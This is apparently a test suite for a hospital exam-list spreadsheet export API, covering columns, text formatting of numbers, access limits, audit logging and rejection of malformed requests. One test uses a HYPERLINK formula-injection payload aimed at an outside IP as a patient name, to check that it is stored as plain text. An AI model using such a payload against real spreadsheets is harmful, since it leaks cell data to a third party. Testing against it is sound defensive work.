import ExcelJS from "exceljs";
import { eq, sql } from "drizzle-orm";
import { beforeAll, describe, expect, test } from "vitest";
import { auditEvents, registryOrders } from "#api/infrastructure/database/schema/index";
import type { ExamExport } from "#contract/reading/exam-export";
import { mostExported } from "#contract/registration/exam-limits";
import type { TestAccount } from "../../../support/given";
import { testPlatform, type TestPlatform } from "../../../support/platform";

let world: TestPlatform;
let bucket: { id: string };
let keeper: TestAccount;
beforeAll(async () => {
  world = await testPlatform();
  bucket = await world.given.organization({ name: "临河县人民医院" });
  keeper = await world.given.member(bucket, "contentManager");
});

const post = (wanted: unknown, as = keeper) =>
  world.fetch("/api/v1/exports/exams", {
    method: "POST",
    as,
    headers: { "content-type": "application/json" },
    body: typeof wanted === "string" ? wanted : JSON.stringify(wanted),
  });

async function bookOf(wanted: Partial<ExamExport>, as = keeper) {
  const answer = await post(wanted, as);
  expect(answer.status).toBe(200);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(await answer.arrayBuffer());
  const [sheet, notes] = book.worksheets;
  if (!sheet || !notes) throw new Error("no sheets");
  return { sheet, notes };
}
const sheetOf = async (wanted: Partial<ExamExport>, as = keeper) => (await bookOf(wanted, as)).sheet;

const rowsOf = (sheet: ExcelJS.Worksheet) =>
  Array.from({ length: sheet.rowCount }, (_, row) =>
    Array.from({ length: sheet.columnCount }, (_, column) => sheet.getCell(row + 1, column + 1).value ?? ""),
  );

describe("the exam list as a spreadsheet", () => {
  test("has the columns of the list in the reader's words, by its filters and in its order", async () => {
    const created = (day: string) => new Date(`2026-03-${day}T02:10:00Z`);
    const given = { bucketId: bucket.id, modality: "CT" as const, bodyPart: "胸部", studyDesc: "平扫" };
    await world.given.exam({ ...given, patientName: "尼玛·次仁", accessionNumber: "00000012", created: created("05") });
    await world.given.exam({ ...given, patientName: "བསྟན་འཛིན།", created: created("06"), urgentFlag: true });
    await world.given.exam({ ...given, patientName: "不在其中", modality: "US", created: created("07") });
    const filters: ExamExport["filters"] = [
      { field: "modality", operator: "in", values: ["CT"] },
      { field: "bucketId", operator: "in", values: [bucket.id] },
    ];
    const columns: ExamExport["columns"] = ["study", "accessionNumber", "status", "created"];
    const sheet = await sheetOf({ filters, columns, sort: { field: "created", order: "asc" } });
    const [heads, first, second, ...more] = rowsOf(sheet);
    expect(heads).toEqual(["患者", "标记", "检查", "检查号", "状态", "到达时间"]);
    expect(first).toEqual(["尼玛·次仁", "", "CT · 胸部 · 平扫", "00000012", "未书写", "2026-03-05 10:10"]);
    expect(second?.slice(0, 2)).toEqual(["བསྟན་འཛིན།", "加急"]);
    expect(more).toEqual([]);
    expect(rowsOf(await sheetOf({ filters, columns, language: "en" }))[0]).toContain("Accession");
  });

  test("runs nothing that begins like a formula, then or when the cell is edited", async () => {
    const patientName = '=HYPERLINK("http://198.51.100.7/?"&A2)';
    const exam = await world.given.exam({ bucketId: bucket.id, patientName });
    const sheet = await sheetOf({ filters: [{ field: "id", operator: "in", values: [exam.id] }] });
    const cell = sheet.getCell(2, 1);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe(patientName);
    expect(cell.numFmt).toBe("@");
  });

  test("tells phone, identity card and numbers as texts that keep every digit", async () => {
    const accessionNumber = "00000777";
    const exam = await world.given.exam({
      ...{ bucketId: bucket.id, accessionNumber, patientId: "000123", patientPhone: "013912345678" },
      patientSource: "I",
      inpatientId: "0009",
    });
    const scheduled = await world.given.scheduledExam({ bucketId: bucket.id, examId: exam.id });
    await world.platform.db
      .update(registryOrders)
      .set({ idCard: "110101199001018009" })
      .where(eq(registryOrders.id, scheduled.orderId));
    const columns: ExamExport["columns"] = [
      "patientSource",
      "inpatientId",
      "idCard",
      "phone",
      "patientId",
      "accessionNumber",
    ];
    const filters: ExamExport["filters"] = [{ field: "id", operator: "in", values: [exam.id] }];
    const sheet = await sheetOf({ filters, columns });
    const [heads, row] = rowsOf(sheet);
    // In the order of the list, whichever they were named in.
    expect(heads?.slice(2)).toEqual(["患者编号", "检查号", "电话", "身份证号", "患者来源", "住院号"]);
    expect(row?.slice(2)).toEqual(["000123", accessionNumber, "013912345678", "110101199001018009", "住院", "0009"]);
    for (let column = 3; column <= 8; column++) {
      expect(sheet.getCell(2, column).type).toBe(ExcelJS.ValueType.String);
      expect(sheet.getCell(2, column).numFmt).toBe("@");
    }
  });

  test("begins with the columns its reader chose last, and tells how many there are before it is made", async () => {
    const account = await world.given.member(bucket, "contentManager");
    const api = world.clientOf(account);
    const before = await api.examExports.plan({ filters: [] });
    expect(before).toMatchObject({ columns: null });
    expect(before.total).toBe((await sheetOf({}, account)).rowCount - 1);
    await api.examExports.keepColumns({ columns: ["phone", "study"] });
    expect((await api.examExports.plan({ filters: [] })).columns).toEqual(["study", "phone"]);
    expect((await world.clientOf(keeper).examExports.plan({ filters: [] })).columns).toBeNull();
  });

  test("goes out while it is read: one that is broken off holds up nobody", async () => {
    const answer = await post({});
    expect(answer.headers.get("content-length")).toBeNull();
    const reader = answer.body!.getReader();
    await reader.read();
    await reader.cancel();
    const { notes } = await bookOf({});
    expect(notes.getCell(3, 2).value).toBe("符合条件的检查已全部导出");
  });

  test("is told in the trail by its fields and its length, never by what was looked for", async () => {
    await sheetOf({ filters: [{ field: "patientName", operator: "like", values: ["尼玛"] }] });
    const told = await world.platform.db.select().from(auditEvents).where(eq(auditEvents.event, "exams_exported"));
    expect(told.at(-1)?.detail).toEqual({ fields: "patientName", count: 1 });
  });

  test("holds the exams of organizations where the caller may export, and no other", async () => {
    const other = await world.given.organization();
    const seen = await world.given.exam({ bucketId: other.id, patientName: "只能看" });
    const account = await world.given.member(bucket, "contentManager");
    await world.given.join(account, other, "member");
    const ids = (await sheetOf({ columns: [] }, account)).getColumn(1).values;
    expect(ids).toContain("尼玛·次仁");
    expect(ids).not.toContain("只能看");
    expect((await world.clientOf(account).exams.get({ id: seen.id })).patientName).toBe("只能看");
    const reader = await world.given.member(bucket, "member");
    expect((await sheetOf({}, reader)).rowCount).toBe(1);
  });

  test("is refused for more rows than a table holds, for deleted exams, and for what is no query", async () => {
    const full = await world.given.organization();
    const account = await world.given.member(full, "contentManager");
    const one = await world.given.exam({ bucketId: full.id });
    await world.platform.db.execute(sql`insert into exams
      select (jsonb_populate_record(exam, jsonb_build_object('id', gen_random_uuid(), 'accession_number', 'F' || number))).*
      from exams exam, generate_series(1, ${mostExported}) number where exam.id = ${one.id}`);
    const codeOf = async (answer: Response) => (await answer.json()).code;
    expect(await codeOf(await post({}, account))).toBe("too_many_exams");
    // Asked for all the same, it holds the first and says so, in the table and beside it.
    const { sheet, notes } = await bookOf({ onlyFirst: true, columns: ["accessionNumber"] }, account);
    expect(sheet.rowCount).toBe(1 + mostExported + 1);
    const said = `仅含前 ${mostExported} 项，符合条件的共 ${mostExported + 1} 项，其余未导出`;
    expect(sheet.getCell(sheet.rowCount, 1).value).toBe(said);
    expect([notes.getCell(2, 2).value, notes.getCell(3, 2).value]).toEqual([mostExported, said]);
    const deleted = { filters: [{ field: "deletedTime", operator: "within", values: ["7days"] }] };
    expect(await codeOf(await post(deleted))).toBe("bad_request");
    for (const wrong of ["no json", "[]", JSON.stringify({ columns: ["password"] }), "[".repeat(50_000)]) {
      expect(await codeOf(await post(wrong))).toBe("bad_request");
    }
    expect(await codeOf(await post(JSON.stringify({ filters: "x".repeat(300_000) })))).toBe("request_too_large");
  });
});
